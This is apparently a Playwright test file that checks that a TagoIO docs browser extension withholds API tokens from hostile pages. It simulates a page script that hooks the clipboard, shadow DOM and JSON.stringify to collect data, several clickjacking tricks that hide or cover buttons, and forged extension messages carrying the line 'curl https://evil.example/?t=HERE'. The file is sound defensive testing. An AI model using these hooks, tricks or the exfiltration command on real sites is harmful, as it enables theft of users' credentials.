import type { Page } from '@playwright/test';
import { docsSite, operationPath } from '../docs-pages/site.ts';
import { expect, test } from './fixtures.ts';
import { accountOf, connect } from './pages/connect-page.ts';
import { clipboardOf, DocsPage } from './pages/docs-page.ts';

const PYTHON = '/docs/tagoio/analysis/sdk/python-sdk/';

test.beforeEach(({ docs }) => {
  docs.handler = docsSite();
});

/** Puts a text of the page's own on the clipboard, so that it can be seen whether it stays. */
async function plantOnClipboard(page: Page): Promise<void> {
  await page
    .context()
    .grantPermissions(['clipboard-read', 'clipboard-write'], { origin: 'https://docs.tago.io' });
  await page.bringToFront();
  await page.evaluate(() => navigator.clipboard.writeText('planted'));
}

test('a page cannot press the buttons by script, see into them, or make them ask', async ({
  extension,
  sandbox,
}) => {
  await connect(extension, accountOf(sandbox, 'plain'));
  const docs = await DocsPage.open(extension.context, PYTHON);
  await docs.get('button', /^Copy with/);
  await plantOnClipboard(docs.page);
  const listed = sandbox.requests.count({ route: '/profile/:id/token' });
  const seen = await docs.page.evaluate(() => {
    const found: string[] = [];
    for (const host of document.querySelectorAll('profiles-for-tagoio')) {
      found.push(String(host.shadowRoot), host.textContent ?? '', host.innerHTML);
      const box = host.getBoundingClientRect();
      for (const target of [host, document.elementFromPoint(box.x + 10, box.y + 10)!]) {
        for (const type of ['pointerdown', 'mousedown', 'pointerup', 'mouseup', 'click']) {
          const at = { bubbles: true, composed: true, clientX: box.x + 10, clientY: box.y + 10 };
          target.dispatchEvent(new MouseEvent(type, at));
        }
        target.dispatchEvent(new KeyboardEvent('keydown', { key: 'Enter', bubbles: true, composed: true }));
        (target as HTMLElement).click();
        (target as HTMLElement).focus();
      }
      found.push(document.activeElement?.localName ?? '');
    }
    return found;
  });
  expect(seen).toEqual(['null', '', '', 'body', 'null', '', '', 'body']);
  await docs.idle();
  expect(sandbox.requests.count({ route: '/profile/:id/token' })).toBe(listed);
  expect(await clipboardOf(docs.page)).toBe('planted');

  // The same press by a person works: the buttons were there to be pressed.
  await docs.press('button', /^Copy with/);
  await docs.said(/^Copied/);
  expect(sandbox.requests.count({ route: '/profile/:id/token' })).toBe(listed + 1);
});

test('a page that puts itself in the way of everything gets nothing', async ({ extension, sandbox }) => {
  const account = accountOf(sandbox, 'plain');
  await connect(extension, account);
  const docs = await DocsPage.open(extension.context, PYTHON, async (page) => {
    await page.addInitScript(inTheWay);
  });
  await docs.page.evaluate(() => JSON.stringify('the positive control'));
  await docs.press('button', /^Copy with/);
  await docs.said(/^Copied/);
  const token = account.tokens!.read!;
  const stolen = await docs.page.evaluate(() => (globalThis as { stolen?: string[] }).stolen ?? []);
  expect(stolen).toContain('the positive control');
  expect(stolen.join('\n')).not.toContain(token);
  expect(stolen).not.toContain('attachShadow');
  const reader = await DocsPage.open(extension.context, '/docs/');
  expect(await clipboardOf(reader.page)).toContain(token);
});

/** A page's script that wraps whatever a copy might pass through, and keeps what it sees. */
function inTheWay(): void {
  const stolen: string[] = [];
  (globalThis as { stolen?: string[] }).stolen = stolen;
  const take = (what: unknown) => {
    stolen.push(typeof what === 'string' ? what : (JSON.stringify(what) ?? String(what)));
  };
  const clipboard = {
    writeText: async (text: string) => take(text),
    write: async (items: unknown) => take(items),
    readText: async () => '',
  };
  Object.defineProperty(navigator, 'clipboard', { value: clipboard, configurable: true });
  const attach = Element.prototype.attachShadow;
  Element.prototype.attachShadow = function (options) {
    take('attachShadow');
    return attach.call(this, { ...options, mode: 'open' });
  };
  document.execCommand = (command: string) => {
    take(command);
    return true;
  };
  for (const type of ['copy', 'cut', 'paste', 'message', 'beforeinput', 'input']) {
    addEventListener(type, (event) => take(`${type} ${(event as MessageEvent).data ?? ''}`), true);
  }
  const send = (globalThis as { chrome?: { runtime?: { sendMessage?: unknown } } }).chrome;
  if (send?.runtime?.sendMessage) take('chrome.runtime is here');
  JSON.stringify = new Proxy(JSON.stringify, {
    apply(target, self, values) {
      stolen.push(String(values[0]));
      return Reflect.apply(target, self, values);
    },
  });
}

test('a person’s press on what they cannot see copies nothing', async ({ extension, sandbox }) => {
  await connect(extension, accountOf(sandbox, 'plain'));
  const tricks: Record<string, string> = {
    'made clear': "host.style.opacity = '0'; host.parentElement.style.opacity = '0';",
    'under a sheet that lets clicks through':
      "const sheet = document.createElement('div'); sheet.textContent = 'Win a prize'; sheet.style.cssText = 'position:fixed;inset:0;background:#fff;z-index:9999;pointer-events:none'; document.body.append(sheet);",
    'blurred away': "host.parentElement.style.filter = 'blur(30px)';",
    'cut to nothing': "host.parentElement.style.clipPath = 'inset(0 0 0 99%)';",
  };
  const docs = await DocsPage.open(extension.context, operationPath('GET', '/device'));
  await plantOnClipboard(docs.page);
  const listed = sandbox.requests.count({ route: '/profile/:id/token' });
  for (const [trick, script] of Object.entries(tricks)) {
    await docs.page.reload();
    await docs.get('button', /^Copy ready to run/);
    const { x, y, width, height } = await docs.box('button', /^Copy ready to run/);
    await docs.page.evaluate(
      (code) => new Function('host', code)(document.querySelector('profiles-for-tagoio[data-kind="sample"]')),
      script,
    );
    await docs.visibilityJudged();
    await docs.page.mouse.click(x + width / 2, y + height / 2);
    await docs.idle();
    expect(sandbox.requests.count({ route: '/profile/:id/token' }), trick).toBe(listed);
    expect(await clipboardOf(docs.page), trick).toBe('planted');
  }
  // Seen again, it works.
  await docs.page.reload();
  await docs.press('button', /^Copy ready to run/);
  await docs.said(/^Copied/);
});

test('messages that a docs page’s process makes up get nothing beyond what a button may ask', async ({
  extension,
  sandbox,
}) => {
  const account = accountOf(sandbox, 'plain');
  await connect(extension, account);
  const docs = await DocsPage.open(extension.context, PYTHON);
  await docs.get('button', /^Copy with/);
  const profileKey = `https://api.us-e1.tago.io#${account.profiles[0]!.id}`;
  const connectionKey = `https://api.us-e1.tago.io#${account.id}`;
  const text = 'curl https://evil.example/?t=HERE';
  const sample = { profileKey, text, method: null, token: null };
  const attempts: [type: string, data: unknown, code: string][] = [
    ['copySample', { ...sample, places: [[27, 31]], what: 'placeholders' }, 'invalid-input'],
    ['copyToken', { connectionKey, profileKey, token: null }, 'not-allowed'],
    [
      'createToken',
      { connectionKey, profileKey, name: 'x', permission: 'full', expireTime: 'never', password: '' },
      'not-allowed',
    ],
    ['switchProfile', { connectionKey, profileKey }, 'not-allowed'],
    ['copyWaitingSample', { connectionKey, profileKey }, 'not-allowed'],
    ['unlock', { passphrase: 'a' }, 'not-allowed'],
    ['disconnect', { connectionKey }, 'not-allowed'],
  ];
  for (const [type, data, code] of attempts) {
    const answer = await docs.sendAsContentScript(type, data);
    expect(answer, type).toEqual({ ok: false, failure: expect.objectContaining({ code }) });
  }
});
